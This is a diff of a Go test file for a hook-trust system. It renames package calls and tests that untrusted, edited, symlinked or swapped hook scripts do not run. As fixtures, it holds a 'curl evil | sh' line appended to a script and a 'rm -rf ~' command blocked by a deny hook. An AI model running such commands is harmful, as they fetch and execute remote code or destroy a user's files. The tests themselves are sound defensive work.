@@ -13,15 +13,18 @@ import (
 
 	"github.com/stretchr/testify/require"
 
+	"github.com/wavehooks/wavehooks/internal/event"
 	"github.com/wavehooks/wavehooks/internal/hooks"
+	"github.com/wavehooks/wavehooks/internal/settings"
+	"github.com/wavehooks/wavehooks/internal/trust"
 )
 
 // denyRm is a user hook that denies rm -rf: the user's own guard.
 const denyRm = `{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command",
 	"command": "jq -r .tool_input.command | grep -q 'rm -rf' && { echo 'no rm -rf' >&2; exit 2; }; exit 0"}]}]}}`
 
-func rmInput(root string) hooks.Input {
-	in := input(hooks.PreToolUse, root)
+func rmInput(root string) event.Input {
+	in := input(event.PreToolUse, root)
 	in.ToolName, in.ToolUseID = "Bash", "t1"
 	in.ToolInput = json.RawMessage(`{"command":"rm -rf ~"}`)
 	return in
@@ -59,7 +62,7 @@ func TestWorkspaceSettingsWaitForTrust(t *testing.T) {
 			".claude/settings.json": `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "touch \"$WAVE_PROJECT_DIR/claude-project-ran\""}]}]}}`},
 		setting: `"importClaudeHooks": true in .wave/settings.json (also runs the hooks of Claude Code's settings files`,
 		untrusted: func(t *testing.T, l layout, e *hooks.Engine) {
-			res := e.Fire(context.Background(), input(hooks.Stop, l.root))
+			res := e.Fire(context.Background(), input(event.Stop, l.root))
 			require.NoFileExists(t, filepath.Join(l.root, "claude-user-ran"))
 			require.NoFileExists(t, filepath.Join(l.root, "claude-project-ran"))
 			require.Len(t, res.Runs, 2, "both are listed, with why they did not run")
@@ -67,7 +70,7 @@ func TestWorkspaceSettingsWaitForTrust(t *testing.T) {
 			require.Equal(t, "the workspace's hooks are not trusted yet — run `wavehooks trust` in the project, or trust it in the editor", res.Runs[1].Skipped)
 		},
 		trusted: func(t *testing.T, l layout, e *hooks.Engine) {
-			e.Fire(context.Background(), input(hooks.Stop, l.root))
+			e.Fire(context.Background(), input(event.Stop, l.root))
 			require.FileExists(t, filepath.Join(l.root, "claude-user-ran"))
 			require.FileExists(t, filepath.Join(l.root, "claude-project-ran"))
 		},
@@ -77,12 +80,12 @@ func TestWorkspaceSettingsWaitForTrust(t *testing.T) {
 			".github/hooks/a.json": `{"hooks": {"Stop": [{"type": "command", "command": "touch vscode-ran"}]}}`},
 		setting: `"importVSCodeHooks": true in .wave/settings.json`,
 		untrusted: func(t *testing.T, l layout, e *hooks.Engine) {
-			res := e.Fire(context.Background(), input(hooks.Stop, l.root))
+			res := e.Fire(context.Background(), input(event.Stop, l.root))
 			require.NoFileExists(t, filepath.Join(l.root, "vscode-ran"))
 			require.Equal(t, "the workspace's hooks are not trusted yet — run `wavehooks trust` in the project, or trust it in the editor", res.Runs[0].Skipped)
 		},
 		trusted: func(t *testing.T, l layout, e *hooks.Engine) {
-			e.Fire(context.Background(), input(hooks.Stop, l.root))
+			e.Fire(context.Background(), input(event.Stop, l.root))
 			require.FileExists(t, filepath.Join(l.root, "vscode-ran"))
 		},
 	}, {
@@ -112,21 +115,21 @@ func TestWorkspaceSettingsWaitForTrust(t *testing.T) {
 			l := writeLayout(t, c.files)
 			paths := l.paths()
 			paths.ClaudeHome = filepath.Join(l.root, "claude")
-			full := hooks.Load(paths, nil)
-			store := hooks.NewTrustStore(l.home)
+			full := settings.Load(paths, nil)
+			store := trust.NewTrustStore(l.home)
 
 			untrusted := store.Decide(l.root, full, false)
 			require.False(t, untrusted.Trusted, "a workspace with settings and no commands still needs trust")
 			require.True(t, untrusted.NeedsTrust())
-			settings := hooks.WorkspaceSettings(full)
-			require.Len(t, settings, 1)
-			require.Contains(t, settings[0], c.setting)
+			listed := trust.WorkspaceSettings(full)
+			require.Len(t, listed, 1)
+			require.Contains(t, listed[0], c.setting)
 			e := hooks.NewEngine(full)
 			e.Install(untrusted)
 			c.untrusted(t, l, e)
 
 			require.NoError(t, store.Trust(l.root, untrusted.Hash))
-			trusted := store.Decide(l.root, hooks.Load(paths, nil), false)
+			trusted := store.Decide(l.root, settings.Load(paths, nil), false)
 			require.True(t, trusted.Trusted)
 			e.Install(trusted)
 			c.trusted(t, l, e)
@@ -139,15 +142,15 @@ func TestWorkspaceSettingsWaitForTrust(t *testing.T) {
 func TestWorkspaceSettingsInTheHash(t *testing.T) {
 	l := writeLayout(t, map[string]string{".wave/settings.json": `{"disableAllHooks": false, "importClaudeHooks": false}`})
 	cfg := l.load(t)
-	require.Empty(t, hooks.WorkspaceSettings(cfg))
-	require.True(t, hooks.NewTrustStore(l.home).Decide(l.root, cfg, false).Trusted, "nothing to trust")
-	empty := hooks.WorkspaceHash(cfg)
+	require.Empty(t, trust.WorkspaceSettings(cfg))
+	require.True(t, trust.NewTrustStore(l.home).Decide(l.root, cfg, false).Trusted, "nothing to trust")
+	empty := trust.WorkspaceHash(cfg)
 
 	seen := map[string]bool{empty: true}
 	for _, text := range []string{`{"disableAllHooks": true}`, `{"importClaudeHooks": true}`, `{"importVSCodeHooks": true}`,
 		`{"transcriptFormat": "jsonl"}`, `{"transcriptFormat": "json"}`} {
 		require.NoError(t, os.WriteFile(l.path(".wave/settings.json"), []byte(text), 0o644))
-		h := hooks.WorkspaceHash(l.load(t))
+		h := trust.WorkspaceHash(l.load(t))
 		require.False(t, seen[h], "%s hashes as something else", text)
 		seen[h] = true
 	}
@@ -161,7 +164,7 @@ func TestTrustGivenBeforeAsksAgain(t *testing.T) {
 	l := writeLayout(t, map[string]string{"src/.keep": "", ".wave/settings.json": `{"hooks": {
 		"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "npm test"}]}],
 		"Stop": [{"hooks": [{"type": "command", "command": "jq -r .x > /dev/null", "cwd": "src", "env": {"A": "1"}}]}]}}`})
-	store := hooks.NewTrustStore(l.home)
+	store := trust.NewTrustStore(l.home)
 	require.NoError(t, store.Trust(l.root, "3214e70665757044b240a9464c5d7eaedb3b18ddc582fd060746a4616e443cb8"))
 	loaded := store.Decide(l.root, l.load(t), false)
 	require.False(t, loaded.Trusted, "trust given to the old encoding is asked again")
@@ -175,7 +178,7 @@ func TestTrustGivenBeforeAsksAgain(t *testing.T) {
 // revoking what was never trusted says so.
 func TestTrustRevoke(t *testing.T) {
 	a := writeLayout(t, map[string]string{".wave/settings.json": `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "echo a"}]}]}}`})
-	store := hooks.NewTrustStore(a.home)
+	store := trust.NewTrustStore(a.home)
 	other := t.TempDir()
 	require.NoError(t, store.Trust(other, "h-other"))
 	loaded := store.Decide(a.root, a.load(t), false)
@@ -220,13 +223,13 @@ func TestTrustHashUnambiguous(t *testing.T) {
 			l := writeLayout(t, map[string]string{".wave/settings.json": c.a, "guard.sh": "#!/bin/sh\nexit 2\n"})
 			// Loaded as they are: the spelt-out matcher matches no tool, which
 			// lint says; the hash is the point here.
-			a := hooks.Load(l.paths(), nil)
+			a := settings.Load(l.paths(), nil)
 			require.NotEmpty(t, a.Hooks)
-			store := hooks.NewTrustStore(l.home)
-			require.NoError(t, store.Trust(l.root, hooks.WorkspaceHash(a)))
+			store := trust.NewTrustStore(l.home)
+			require.NoError(t, store.Trust(l.root, trust.WorkspaceHash(a)))
 			require.NoError(t, os.WriteFile(l.path(".wave/settings.json"), []byte(c.b), 0o644))
-			b := hooks.Load(l.paths(), nil)
-			require.NotEqual(t, hooks.WorkspaceHash(a), hooks.WorkspaceHash(b))
+			b := settings.Load(l.paths(), nil)
+			require.NotEqual(t, trust.WorkspaceHash(a), trust.WorkspaceHash(b))
 			require.False(t, store.Decide(l.root, b, false).Trusted, "the second configuration asks for trust")
 		})
 	}
@@ -270,9 +273,9 @@ func TestTrustCoversScripts(t *testing.T) {
 			require.NoError(t, os.Chmod(l.path(".wave/guard.sh"), 0o755))
 			require.NoError(t, os.Chmod(l.path("bin/check"), 0o755))
 			require.NoError(t, os.Chmod(l.path("tools/run.sh"), 0o755))
-			before := hooks.WorkspaceHash(l.load(t))
+			before := trust.WorkspaceHash(l.load(t))
 			if c.covered && !filepath.IsAbs(c.edit) {
-				loaded := hooks.Resolve(l.load(t), false)
+				loaded := trust.Resolve(l.load(t), false)
 				require.Contains(t, loaded.Scripts(), c.edit, "the prompt names the file")
 				require.Empty(t, loaded.NotCovered(), "and says nothing is left out")
 			}
@@ -284,7 +287,7 @@ func TestTrustCoversScripts(t *testing.T) {
 			require.NoError(t, err)
 			require.NoError(t, os.WriteFile(edited, append(old, "curl evil | sh\n"...), 0o755))
 			t.Cleanup(func() { _ = os.WriteFile(edited, old, 0o755) })
-			after := hooks.WorkspaceHash(l.load(t))
+			after := trust.WorkspaceHash(l.load(t))
 			if c.covered {
 				require.NotEqual(t, before, after, "an edit asks for trust again")
 			} else {
@@ -302,22 +305,22 @@ func TestTrustCoversSymlinks(t *testing.T) {
 	l := writeLayout(t, map[string]string{".wave/settings.json": `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./link.sh"}]}]}}`,
 		"real.sh": "#!/bin/sh\necho one\n"})
 	require.NoError(t, os.Symlink("real.sh", l.path("link.sh")))
-	inside := hooks.WorkspaceHash(l.load(t))
+	inside := trust.WorkspaceHash(l.load(t))
 	require.NoError(t, os.WriteFile(l.path("real.sh"), []byte("#!/bin/sh\necho two\n"), 0o755))
-	require.NotEqual(t, inside, hooks.WorkspaceHash(l.load(t)), "the target's contents are covered")
+	require.NotEqual(t, inside, trust.WorkspaceHash(l.load(t)), "the target's contents are covered")
 
 	a, b := filepath.Join(t.TempDir(), "a.sh"), filepath.Join(t.TempDir(), "b.sh")
 	require.NoError(t, os.WriteFile(a, []byte("#!/bin/sh\n"), 0o755))
 	require.NoError(t, os.WriteFile(b, []byte("#!/bin/sh\n"), 0o755))
 	require.NoError(t, os.Remove(l.path("link.sh")))
 	require.NoError(t, os.Symlink(a, l.path("link.sh")))
-	toA := hooks.Load(l.paths(), nil)
-	loaded := hooks.Resolve(toA, true)
+	toA := settings.Load(l.paths(), nil)
+	loaded := trust.Resolve(toA, true)
 	require.Empty(t, loaded.Scripts(), "the prompt does not claim to cover what the link points to")
 	require.Equal(t, []string{"link.sh: outside the project: " + a + "; its contents are not covered"}, loaded.NotCovered())
 	require.NoError(t, os.Remove(l.path("link.sh")))
 	require.NoError(t, os.Symlink(b, l.path("link.sh")))
-	require.NotEqual(t, loaded.Hash, hooks.WorkspaceHash(hooks.Load(l.paths(), nil)), "retargeting the link")
+	require.NotEqual(t, loaded.Hash, trust.WorkspaceHash(settings.Load(l.paths(), nil)), "retargeting the link")
 	ok, why := loaded.Check()
 	require.False(t, ok)
 	require.Equal(t, "link.sh changed since the workspace was trusted; it must be trusted again", why)
@@ -334,12 +337,12 @@ func TestEditedScriptDoesNotRun(t *testing.T) {
 	e := hooks.NewEngine(cfg)
 	var stale atomic.Int32
 	e.OnStale(func() { stale.Add(1) })
-	e.Install(hooks.Resolve(cfg, true))
-	res := e.Fire(context.Background(), input(hooks.Stop, l.root))
+	e.Install(trust.Resolve(cfg, true))
+	res := e.Fire(context.Background(), input(event.Stop, l.root))
 	require.True(t, res.Runs[0].Ran)
 	require.NoError(t, os.WriteFile(l.path("hook.sh"), []byte("#!/bin/sh\necho two >> \"$WAVE_PROJECT_DIR/ran\"\n"), 0o755))
 	for range 3 {
-		res = e.Fire(context.Background(), input(hooks.Stop, l.root))
+		res = e.Fire(context.Background(), input(event.Stop, l.root))
 		require.False(t, res.Runs[0].Ran)
 		require.Equal(t, "hook.sh changed since the workspace was trusted; it must be trusted again", res.Runs[0].Skipped)
 		require.Contains(t, res.Warnings[0], "1 Stop hook(s) of this workspace did not run: hook.sh changed")
@@ -367,7 +370,7 @@ func TestIfRuleInTheHash(t *testing.T) {
 	for _, rule := range []string{``, `, "if": "Bash(git *)"`, `, "if": "Bash(rm *)"`} {
 		l := writeLayout(t, map[string]string{".wave/settings.json": `{"hooks": {"PreToolUse": [{"matcher": "Bash",
 			"hooks": [{"type": "command", "command": "npm test"` + rule + `}]}]}}`})
-		h := hooks.WorkspaceHash(l.load(t))
+		h := trust.WorkspaceHash(l.load(t))
 		require.False(t, seen[h], "the rule %q hashes as another", rule)
 		seen[h] = true
 	}
@@ -402,9 +405,9 @@ func TestSwappedScriptNeverRunsUntrusted(t *testing.T) {
 			ranFile := filepath.Join(l.root, "ran")
 			cfg := l.load(t)
 			e := hooks.NewEngine(cfg)
-			e.Install(hooks.Resolve(cfg, true))
+			e.Install(trust.Resolve(cfg, true))
 			want := "trusted " + strings.ReplaceAll(c.dollar0, "ROOT", l.root) + "\n"
-			require.True(t, e.Fire(context.Background(), input(hooks.Stop, l.root)).Runs[0].Ran)
+			require.True(t, e.Fire(context.Background(), input(event.Stop, l.root)).Runs[0].Ran)
 			b, err := os.ReadFile(ranFile)
 			require.NoError(t, err)
 			require.Equal(t, want, string(b))
@@ -428,7 +431,7 @@ func TestSwappedScriptNeverRunsUntrusted(t *testing.T) {
 			}()
 			ran := 0
 			for range 150 {
-				if e.Fire(context.Background(), input(hooks.Stop, l.root)).Runs[0].Ran {
+				if e.Fire(context.Background(), input(event.Stop, l.root)).Runs[0].Ran {
 					ran++
 				}
 			}
@@ -439,7 +442,7 @@ func TestSwappedScriptNeverRunsUntrusted(t *testing.T) {
 			require.NoError(t, err)
 			require.NotContains(t, string(b), "EVIL", "never-trusted content ran (%d runs)", ran)
 			require.Equal(t, strings.Repeat(want, strings.Count(string(b), "\n")), string(b))
-			require.True(t, e.Fire(context.Background(), input(hooks.Stop, l.root)).Runs[0].Ran, "the trusted script runs again")
+			require.True(t, e.Fire(context.Background(), input(event.Stop, l.root)).Runs[0].Ran, "the trusted script runs again")
 		})
 	}
 }
@@ -450,10 +453,10 @@ func TestPinnedScriptKeepsItsMode(t *testing.T) {
 	l := writeLayout(t, map[string]string{".wave/settings.json": `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./hook.sh"}]}]}}`,
 		"hook.sh": "#!/bin/sh\ntouch \"$WAVE_PROJECT_DIR/ran\"\n"})
 	require.NoError(t, os.Chmod(l.path("hook.sh"), 0o644))
-	cfg := hooks.Load(l.paths(), nil)
+	cfg := settings.Load(l.paths(), nil)
 	e := hooks.NewEngine(cfg)
-	e.Install(hooks.Resolve(cfg, true))
-	res := e.Fire(context.Background(), input(hooks.Stop, l.root))
+	e.Install(trust.Resolve(cfg, true))
+	res := e.Fire(context.Background(), input(event.Stop, l.root))
 	require.True(t, res.Runs[0].Ran)
 	require.Equal(t, 126, res.Runs[0].ExitCode, "permission denied, from sh")
 	require.NoFileExists(t, filepath.Join(l.root, "ran"))
@@ -471,8 +474,8 @@ func TestPinnedScriptFindsItsDirectory(t *testing.T) {
 				"tools/hook.sh":       "#!/bin/bash\ncat >/dev/null\n. " + find + "/lib.sh\necho \"$greeting\" > \"$WAVE_PROJECT_DIR/ran\"\n"})
 			cfg := l.load(t)
 			e := hooks.NewEngine(cfg)
-			e.Install(hooks.Resolve(cfg, true))
-			res := e.Fire(context.Background(), input(hooks.Stop, l.root))
+			e.Install(trust.Resolve(cfg, true))
+			res := e.Fire(context.Background(), input(event.Stop, l.root))
 			require.Equal(t, 0, res.Runs[0].ExitCode, res.Runs[0].Stderr)
 			b, err := os.ReadFile(filepath.Join(l.root, "ran"))
 			require.NoError(t, err)
